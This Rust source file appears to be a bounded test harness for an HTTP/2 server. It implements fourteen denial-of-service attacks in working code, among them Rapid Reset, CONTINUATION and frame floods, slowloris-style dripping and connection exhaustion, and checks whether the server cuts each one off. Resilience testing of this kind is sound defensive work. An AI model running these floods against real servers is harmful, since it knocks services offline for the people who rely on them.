//! The attacks, each bounded in count and time.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, call_headers, connect, frame, is_ended, literal, open,
};

const TIME_MAX: Duration = Duration::from_secs(6);
const FRAMES_MAX: u32 = 100_000;
const SILENT_MAX: usize = 2_000;

pub(crate) struct Result {
    /// Frames or connections that were sent, as far as the kernel took them.
    pub(crate) offered: u32,
    /// Whether the server ended what it was offered.
    pub(crate) ended: bool,
}

#[derive(Clone, Copy)]
pub(crate) enum Attack {
    /// CVE-2023-44487.
    RapidReset,
    /// CVE-2025-8671: the server is made to reset.
    LocalReset,
    /// The same, and the answers are not read.
    LocalResetUnread,
    /// VU#421644.
    Continuation,
    EmptyContinuation,
    EmptyData,
    Pings,
    Settings,
    Priorities,
    /// Calls whose bodies never come.
    Unfinished,
    Silent,
    SlowPreface,
    SlowHeaders,
    HalfClosed,
}

pub(crate) const ALL: [Attack; 14] = [
    Attack::RapidReset,
    Attack::LocalReset,
    Attack::LocalResetUnread,
    Attack::Continuation,
    Attack::EmptyContinuation,
    Attack::EmptyData,
    Attack::Pings,
    Attack::Settings,
    Attack::Priorities,
    Attack::Unfinished,
    Attack::Silent,
    Attack::SlowPreface,
    Attack::SlowHeaders,
    Attack::HalfClosed,
];

impl Attack {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::LocalReset => "local reset",
            Self::LocalResetUnread => "local reset, unread",
            Self::Continuation => "CONTINUATION",
            Self::EmptyContinuation => "empty CONTINUATION",
            Self::EmptyData => "empty DATA",
            Self::Pings => "PING",
            Self::Settings => "SETTINGS",
            Self::Priorities => "PRIORITY",
            Self::Unfinished => "unfinished calls",
            Self::Silent => "silent connections",
            Self::SlowPreface => "slow preface",
            Self::SlowHeaders => "slow headers",
            Self::HalfClosed => "half-closed",
        }
    }

    /// Floods that only cost the attacker as much as us may go on; they must not cost memory.
    pub(crate) fn must_end(self) -> bool {
        !matches!(self, Self::Pings | Self::Settings | Self::Priorities | Self::Unfinished)
    }

    pub(crate) async fn run(self, address: SocketAddr) -> Result {
        let headers = frame(HEADERS, END_HEADERS, 0, &call_headers());
        let on = |stream: u32, frame: &[u8]| {
            let mut frame = frame.to_vec();
            frame[5..9].copy_from_slice(&stream.to_be_bytes());
            frame
        };
        let overflow = frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes());
        let reset = frame(RST_STREAM, 0, 0, &8_u32.to_be_bytes());
        let filler: Vec<u8> = (0..60).flat_map(|n| literal(&format!("x-{n}"), &"y".repeat(120))).collect();
        let begun = frame(HEADERS, 0, 1, &call_headers());
        match self {
            Self::RapidReset => {
                flood(address, true, |n| [on(2 * n + 1, &headers), on(2 * n + 1, &reset)].concat()).await
            }
            Self::LocalReset => {
                flood(address, true, |n| [on(2 * n + 1, &headers), on(2 * n + 1, &overflow)].concat()).await
            }
            Self::LocalResetUnread => {
                flood(address, false, |n| [on(2 * n + 1, &headers), on(2 * n + 1, &overflow)].concat()).await
            }
            Self::Continuation => {
                let more = frame(CONTINUATION, 0, 1, &filler);
                flood(address, true, |n| if n == 0 { begun.clone() } else { more.clone() }).await
            }
            Self::EmptyContinuation => {
                let more = frame(CONTINUATION, 0, 1, &[]);
                flood(address, true, |n| if n == 0 { begun.clone() } else { more.clone() }).await
            }
            Self::EmptyData => {
                let data = frame(DATA, 0, 1, &[]);
                flood(address, true, |n| if n == 0 { on(1, &headers) } else { data.clone() }).await
            }
            Self::Pings => flood(address, false, |_| frame(PING, 0, 0, &[0; 8])).await,
            Self::Settings => flood(address, false, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9])).await,
            Self::Priorities => {
                flood(address, true, |n| frame(PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 9])).await
            }
            Self::Unfinished => flood(address, true, |n| on(2 * n + 1, &headers)).await,
            Self::Silent => silent(address).await,
            Self::SlowPreface => drip(address, PREFACE.to_vec(), Vec::new()).await,
            Self::SlowHeaders => {
                drip(address, frame(CONTINUATION, 0, 1, &filler), [frame_start(), begun].concat()).await
            }
            Self::HalfClosed => {
                half_closed(address, frame(HEADERS, END_HEADERS | END_STREAM, 1, &call_headers())).await
            }
        }
    }
}

fn frame_start() -> Vec<u8> {
    [PREFACE.as_slice(), &frame(SETTINGS, 0, 0, &[])].concat()
}

/// Sends frames until the server ends the connection or a bound is reached.
async fn flood(address: SocketAddr, read: bool, mut next: impl FnMut(u32) -> Vec<u8>) -> Result {
    let Ok(socket) = open(address).await else { return Result { offered: 0, ended: true } };
    let (mut reader, mut writer) = socket.into_split();
    let reading = tokio::spawn(async move {
        if read {
            tokio::io::copy(&mut reader, &mut tokio::io::sink()).await.ok();
        }
        reader
    });
    let mut offered = 0;
    let writing = async {
        while offered < FRAMES_MAX {
            let batch: Vec<u8> = (offered..offered + 100).flat_map(&mut next).collect();
            if writer.write_all(&batch).await.is_err() {
                return true;
            }
            offered += 100;
        }
        false
    };
    // A server that no longer reads holds the flood back as well as one that hangs up.
    let mut ended = tokio::time::timeout(TIME_MAX, writing).await.unwrap_or(false);
    if read && !ended {
        ended = tokio::time::timeout(Duration::from_secs(2), reading).await.is_ok();
    } else {
        reading.abort();
    }
    Result { offered, ended }
}

/// Connections that say nothing; most are beyond what one address may have.
async fn silent(address: SocketAddr) -> Result {
    let mut sockets = Vec::new();
    for _ in 0..SILENT_MAX {
        sockets.extend(connect(address).await.ok());
    }
    let offered = sockets.len() as u32;
    let mut ended = true;
    for socket in &mut sockets {
        ended &= is_ended(socket, TIME_MAX).await;
    }
    Result { offered, ended }
}

/// A hundred connections that send `bytes` one by one, four in a second.
async fn drip(address: SocketAddr, bytes: Vec<u8>, first: Vec<u8>) -> Result {
    async fn one(mut socket: TcpStream, bytes: Vec<u8>, first: Vec<u8>) -> bool {
        if socket.write_all(&first).await.is_err() {
            return true;
        }
        let (mut reader, mut writer) = socket.into_split();
        let dripping = async {
            for byte in bytes {
                tokio::time::sleep(Duration::from_millis(250)).await;
                if writer.write_all(&[byte]).await.is_err() {
                    return;
                }
            }
            std::future::pending().await
        };
        let reading = async { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await.ok() };
        let ended = async {
            tokio::select! { () = dripping => {}, _ = reading => {} }
        };
        tokio::time::timeout(TIME_MAX, ended).await.is_ok()
    }
    let mut dripping = Vec::new();
    for _ in 0..100 {
        if let Ok(socket) = connect(address).await {
            dripping.push(tokio::spawn(one(socket, bytes.clone(), first.clone())));
        }
    }
    let offered = dripping.len() as u32;
    let mut ended = true;
    for connection in dripping {
        ended &= connection.await.unwrap();
    }
    Result { offered, ended }
}

/// Calls whose sender closes its half at once and keeps ours open.
async fn half_closed(address: SocketAddr, call: Vec<u8>) -> Result {
    let mut sockets = Vec::new();
    for _ in 0..100 {
        let Ok(mut socket) = open(address).await else { continue };
        if socket.write_all(&call).await.is_ok() && socket.shutdown().await.is_ok() {
            sockets.push(socket);
        }
    }
    let offered = sockets.len() as u32;
    let mut ended = true;
    for socket in &mut sockets {
        ended &= is_ended(socket, TIME_MAX).await;
    }
    Result { offered, ended }
}
